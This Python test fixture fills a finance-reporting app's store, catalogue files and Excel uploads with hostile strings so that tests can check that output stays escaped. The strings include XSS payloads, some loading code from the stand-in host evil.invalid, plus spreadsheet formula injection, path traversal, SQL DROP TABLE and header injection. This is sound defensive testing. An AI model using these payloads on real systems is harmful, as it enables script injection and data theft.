"""What somebody who means ill would write, and a store in which it stands wherever a text enters.

Each text holds one mark of its own, once, with what must stand before it: where the mark is read without
that, something took the text for more than text.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import date
from importlib import import_module
from itertools import cycle, islice
from pathlib import Path
from typing import Final

import pytest
import xlsxwriter

from lib import office as rooms
from lib.access import accounts
from lib.access.accounts import ROLES
from lib.catalogue.load import SHIPPED, load
from lib.office import Office, Question, parsed
from lib.office.quality import quality_table
from lib.store.opening import open_store
from lib.vocabulary.findings import Finding
from tests.access.test_accounts import GOOD
from tests.how_long import is_long
from tests.office.meeting.conftest import entry

MARK: Final = "xss"
ELSEWHERE: Final = "evil.invalid"
"""A name that stands for the rest of the world; ``__ran`` is what a script that runs would call."""
_TEXTS: Final = {
    "script": "<script>__ran('¤')</script>",
    "script from elsewhere": f"<script src=//{ELSEWHERE}/¤.js></script>",
    "picture with a handler": "<img src=x onerror=__ran('¤')>",
    "svg with a handler": "<svg/onload=__ran('¤')>",
    "script in svg": "<svg><script>__ran('¤')</script></svg>",
    "link in mathml": "<math><a xlink:href=javascript:__ran('¤')>x</a></math>",
    "body with a handler": "<body onload=__ran('¤')>",
    "details that open": "<details open ontoggle=__ran('¤')>",
    "frame with a page in it": "<iframe srcdoc=\"<script>parent.__ran('¤')</script>\"></iframe>",
    "frame of a script": "<iframe src=javascript:parent.__ran('¤')></iframe>",
    "object of data": "<object data=\"data:text/html,<script>parent.__ran('¤')</script>\">",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=//{ELSEWHERE}/¤">',
    "base": f"<base href=//{ELSEWHERE}/¤/>",
    "style sheet from elsewhere": f"<link rel=stylesheet href=//{ELSEWHERE}/¤.css>",
    "style": f"<style>*{{background:url(//{ELSEWHERE}/¤.png)}}</style>",
    "style of an element": f'<b style="background:url(//{ELSEWHERE}/¤.png)">x</b>',
    "expression in a style": "<i style=\"width:expression(__ran('¤'))\">x</i>",
    "form": f"<form action=//{ELSEWHERE}/¤><button>x</button></form>",
    "way out of an attribute": "\" autofocus onfocus=\"__ran('¤')",
    "way out by single quotes": "' onmouseover='__ran(`¤`)",
    "way out by backticks": "` onmouseover=__ran('¤') `",
    "way out of elements": "</textarea></title></style></script><script>__ran('¤')</script>",
    "end of a comment": "--><img src=x onerror=__ran('¤')>",
    "end of a section": "]]><img src=x onerror=__ran('¤')>",
    "markdown link to a script": "[¤](javascript:__ran(1))",
    "markdown link elsewhere": f"[¤](https://{ELSEWHERE}/)",
    "markdown picture": f"![¤](https://{ELSEWHERE}/a.png)",
    "link in angles": f"<https://{ELSEWHERE}/¤>",
    "bare link": f"https://{ELSEWHERE}/¤",
    "link to data": "[¤](data:text/html;base64,PHNjcmlwdD4)",
    "bold": "**¤**",
    "struck out": "~~¤~~",
    "code": "`¤`",
    "formula of latex": "$\\href{javascript:__ran(1)}{¤}$",
    "colour of Streamlit's": ":red[¤]",
    "ground of Streamlit's": ":blue-background[¤]",
    "icon of Streamlit's": ":material/bolt:¤",
    "shortcode": ":smile:¤",
    "link as plotly reads it": "<a href=\"javascript:__ran('¤')\">x</a>",
    "bold as plotly reads it": "<b>¤</b><br>",
    "template of plotly's": "%{x}¤<extra></extra>",
    "template in braces": "{{7*7}}¤${7*7}",
    "template of Python's": "{0.__class__}%s%n¤",
    "entities": "&lt;img src=x onerror=__ran('¤')&gt;",
    "wide letters": "＜script＞¤＜/script＞",
    "heading": "# ¤",
    "formula": "=cmd|' /C calc'!A0¤",
    "formula that links": f'=HYPERLINK("http://{ELSEWHERE}/¤";"x")',
    "formula by @": "@SUM(1+1)*¤",
    "formula by minus": "-2+3+¤",
    "way up": "../../../../etc/passwd¤",
    "SQL": "'; DROP TABLE imports; --¤",
}
UNSEEN: Final = {
    "null byte": "a\x00¤",
    "right to left": "\u202e¤\u2066",
    "two lines": "a\r\nSet-Cookie: ¤=1",
    "zero width": "<scr\u200bipt>¤",
}
"""They hold what is not printable: a catalogue holds none of it, and what is typed loses it on the way."""


@dataclass(frozen=True)
class Payload:
    """A hostile text, and how its mark must be read."""

    name: str
    text: str
    mark: str

    @property
    def before(self) -> str:
        """What stands before the mark, to its end; white space as browsers show it."""
        return " ".join(self.text[: self.text.index(self.mark)].split(" ")) + self.mark


def _made(texts: Mapping[str, str], first: int) -> tuple[Payload, ...]:
    marks = [f"{MARK}{number:02}" for number in range(first, first + len(texts))]
    return tuple(
        Payload(name, text.replace("¤", mark), mark)
        for mark, (name, text) in zip(marks, texts.items(), strict=True)
    )


PAYLOADS: Final = _made(_TEXTS, 1)
UNPRINTABLE: Final = _made(UNSEEN, 1 + len(PAYLOADS))


NAMED: Final = {
    "places.csv": ("name", "full_name"),
    "lines.csv": ("name", "short_name"),
    "offices.csv": ("name", "short_name"),
    "funds.csv": ("name",),
    "causes.csv": ("name",),
    "stages.csv": ("name",),
    "reporters.csv": ("name",),
    "reports.csv": ("name",),
}
"""Texts of a catalogue that a page or a file shows."""
SETTINGS: Final = ("agency", "superior", "committee", "programme_name", "programme_short", "location")


def worse(files: Mapping[str, bytes], start: int = 0) -> dict[str, bytes]:
    """A catalogue, each of its names after a hostile text.

    Args:
        files: Its files.
        start: The payload to begin with.
    """
    texts = islice(cycle(payload.text for payload in PAYLOADS), start, None)
    return {name: _worse(name, content, texts) for name, content in files.items()}


def _worse(name: str, content: bytes, texts: Iterator[str]) -> bytes:
    if name not in {*NAMED, "settings.csv"}:
        return content
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows:
        named = NAMED.get(name) or (("value",) if row["key"] in SETTINGS else ())
        row.update({column: f"{next(texts)} {row[column]}" for column in named if row[column]})
    written = io.StringIO()
    writer = csv.DictWriter(written, rows[0])
    writer.writeheader()
    writer.writerows(rows)
    return written.getvalue().encode()


TITLE: Final = ("PHÒNG TÀI CHÍNH - KẾ HOẠCH", "BÁO CÁO GIẢI NGÂN", "Tính đến ngày 31/07/2024")
FORBIDDEN: Final = re.compile(r"[\[\]:*?/\\\x00-\x1f]")
"""What Excel lets no name of a sheet hold."""


def form(texts: Sequence[str]) -> bytes:
    """A month's form with hostile texts as its sheet's name, in its title, as units' names and as headers.

    Args:
        texts: What to write; each is the name of a unit too.
    """
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"in_memory": True})
    named = [
        text for text in texts if len(text) < 32 and not FORBIDDEN.search(text) and text.strip("'") == text
    ]
    page = book.add_worksheet(named[0] if named else "Trang")
    lines = [[*TITLE[:2]], [texts[-1]], [TITLE[2]], ["", "", "ĐVT: triệu đồng"]]
    lines += [["STT", "Nội dung", "Lũy kế giải ngân", *(f"{text} thêm" for text in texts)]]
    lines += [["I", "Dự án 2"], *(["-", text, str(at)] for at, text in enumerate(texts, 1))]
    for row, cells in enumerate(lines):
        for column, text in enumerate(cells):
            (page.write_number if text.isdigit() else page.write_string)(
                row, column, int(text) if text.isdigit() else text
            )
    book.close()
    return out.getvalue()


def texts_of(*payloads: Payload) -> list[str]:
    """What is typed of each."""
    return [payload.text for payload in payloads]


def communes(office: Office) -> Iterator[str]:
    """Keys of communes, over and over."""
    places = office.catalogue.places
    return cycle(places.loc[places["parent"] == "183", "place"])


IN_ONE: Final = 13
"""Texts of one form: fewer than there are communes."""
EVERY: Final = " ".join(texts_of(*PAYLOADS))
"""All of them in one text."""


def fill(office: Office) -> None:
    """Say, take in, withdraw, keep and freeze in hostile words whatever a person can.

    In the plain form each text is said of one kind of thing, in the long one of every kind.
    """
    _take_in(office, PAYLOADS if is_long() else PAYLOADS[IN_ONE:-IN_ONE])
    _say(office)
    asked = Question(2024, date(2024, 6, 30))
    for payload in PAYLOADS[:: 1 if is_long() else 3]:
        rooms.keep_scenario(office, asked, parsed("DA2:ct=92"), name=payload.text, actor=payload.text)
    period = next(iter(rooms.report_periods(office, 2024)))
    rooms.close_period(office, period, actor=EVERY[:80], note=EVERY, machine=EVERY)
    with pytest.MonkeyPatch.context() as patch:  # all tables of an edition take ten seconds
        patch.setattr(import_module("lib.office.editions"), "all_keys", lambda _: iter(()))
        rooms.freeze(office, asked, held_on=date(2024, 7, 11), actor=EVERY[:80], note=EVERY, machine=EVERY)


def _take_in(office: Office, payloads: Sequence[Payload]) -> None:
    """Forms whose names nobody knows: each is asked about, answered, remembered; some are withdrawn again."""
    taken = []
    for at in range(0, len(payloads), IN_ONE):
        texts = texts_of(*payloads[at : at + IN_ONE])
        name, content = f"{texts[0]}.xlsx", form(texts)
        asked = rooms.receive(office, name, content)
        assert asked.reading, (name, asked.fault)
        file = rooms.receive(office, name, content, _answers(office, asked.reading.findings))
        run = rooms.compare(office, [file])
        taken += rooms.accept(office, run, actor=texts[1], note=texts[2], machine=texts[3])
    rooms.withdraw(office, taken[::2], actor=EVERY[:80], reason=EVERY, machine=EVERY)
    rooms.restore(office, taken[:1], actor=EVERY[:80], reason=EVERY)


def _answers(office: Office, findings: Sequence[Finding]) -> dict[str, str]:
    places = communes(office)
    found = {}
    for each in findings:
        if each.severity == "ask":
            kind = each.answer_key.partition(":")[0]
            found[each.answer_key] = f"place:{next(places)}" if kind == "row" else "skip"
    return found


def _say(office: Office) -> None:
    """Decisions, causes, obstacles, stages, what became of them, and explanations of findings."""
    written = [*PAYLOADS, *UNPRINTABLE]
    places = communes(office)
    sent = []
    for at, payload in enumerate(written):
        text, where = payload.text, {"line": "DA2", "place": next(places)}
        kinds = [
            [entry(text=text, who=text[:100], **where)],
            [entry("cause", cause="khac", text=text, action=text, **where)],
            [entry("obstacle", text=text, on="2024-06-01", **where)],
            [entry("stage", stage="ho-so", text=text, on="2024-06-01", **where)],
            [said := entry(text=text, actor=text[:60], **where)],
        ]
        kinds[-1].append(entry("state", of=said["id"], state="dropped", text=text, on="2024-06-02"))
        for each in kinds if is_long() else [kinds[at % len(kinds)]]:
            sent += each
    done = [
        rooms.enter(office, sent[at : at + 20], date(2024, 7, 10), machine=EVERY)
        for at in range(0, len(sent), 20)
    ]
    assert [each.refused for each in done if each.refused] == []
    findings = quality_table(rooms.sight(office, Question(2024, date(2024, 6, 30))))
    for payload, (_, finding) in zip(cycle(written), findings.iterrows(), strict=False):
        rooms.write_note(office, finding, "explained", payload.text, actor=payload.text)


def hostile_home(filled: Path, folder: Path, start: int = 0) -> tuple[Path, Path]:
    """A store and a catalogue of somebody who means ill.

    Args:
        filled: A store with the sample in it.
        folder: Where to put both.
        start: The payload that the catalogue's first name bears.

    Returns:
        The store's file and the catalogue's folder.
    """
    store, catalogue = folder / "kho.db", folder / "catalogue"
    shutil.copy(filled, store)
    shutil.copytree(SHIPPED, catalogue)
    for name, content in worse(load(SHIPPED).files, start).items():
        (catalogue / name).write_bytes(content)
    office = Office(load(catalogue), open_store(f"sqlite:///{store}"))
    fill(office)
    for at, payload in enumerate(PAYLOADS[::5]):
        name, shown = f"nguoi{at}", f"{payload.text[:60]} {at}"
        accounts.add(office.store, name, shown, ROLES[at % 3], GOOD, actor=payload.text[:60], machine=EVERY)
    office.store.engine.dispose()
    return store, catalogue
